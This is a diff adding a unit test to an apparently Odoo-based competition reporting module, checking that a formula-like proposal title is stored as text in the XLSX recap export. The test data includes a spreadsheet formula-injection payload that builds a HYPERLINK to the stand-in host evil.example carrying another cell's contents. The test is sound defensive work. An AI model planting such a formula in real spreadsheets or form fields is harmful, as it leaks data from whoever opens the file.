@@ -87,6 +87,14 @@ class TestSinovikReports(SinovikCase):
         action = self.competition.action_export_xlsx()
         self.assertEqual(action["type"], "ir.actions.act_url")
 
+    def test_xlsx_recap_writes_titles_as_text(self):
+        """A proposal title that looks like a formula stays text in the recap (no live HYPERLINK)."""
+        hostile = '=HYPERLINK("http://evil.example/?d="&C2,"Inovasi")'
+        self._proposal(self.opd_c, hostile, complete=False)
+        book = openpyxl.load_workbook(io.BytesIO(self.competition._recap_xlsx()))
+        cells = [cell for row in book["Proposals"].iter_rows() for cell in row if cell.value == hostile]
+        self.assertEqual([cell.data_type for cell in cells], ["s"])
+
     def test_export_package_is_one_pdf_in_form_order(self):
         with patch.object(type(self.env["ir.actions.report"]), "_run_wkhtmltopdf", _fake_wkhtmltopdf):
             action = (self.prop_a | self.prop_b).with_user(self.staff).action_export_package()
